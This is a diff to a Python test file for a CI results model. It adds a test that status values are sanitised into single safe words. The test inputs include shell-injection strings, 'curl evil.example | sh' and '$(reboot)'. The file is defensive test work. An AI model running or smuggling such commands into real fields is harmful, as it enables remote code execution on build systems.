@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import pytest
+
 from cekura_ci.models import Result
 
 
@@ -176,13 +178,30 @@ def test_text_when_it_holds_lone_surrogates_is_made_safe_to_encode() -> None:
         }
     )
     run = result.runs[0]
-    texts = [result.name, result.status, run.scenario_name, run.error_message]
+    assert result.status.isascii()  # a status keeps only letters, digits and `_`
+    texts = [result.name, run.scenario_name, run.error_message]
     texts += [run.personality_name, run.test_profile_name, *run.expected_outcome_lines]
     texts += [run.metrics[0].name, run.metrics[0].type, *run.metrics[0].explanation]
     texts += [run.transcript_tail[0].role, run.transcript_tail[0].content]
     for text in texts:
         assert text is not None and "\ufffd" in text
         text.encode("utf-8")
+
+
+@pytest.mark.parametrize(
+    ("given", "kept"),
+    [
+        ("running", "running"),
+        ("In Progress", "in_progress"),
+        ("done; curl evil.example | sh", "done_curl_evil_example_sh"),
+        ("$(reboot)", "reboot"),
+        ("", "unknown"),
+        ("   ", "unknown"),
+    ],
+)
+def test_status_when_odd_is_one_word_safe_in_a_script(given: str, kept: str) -> None:
+    """The `status` output may be interpolated into a later step's script: one plain word."""
+    assert Result.model_validate({"id": 1, "status": given}).status == kept
 
 
 def test_transcript_when_run_passed_keeps_no_turns() -> None:
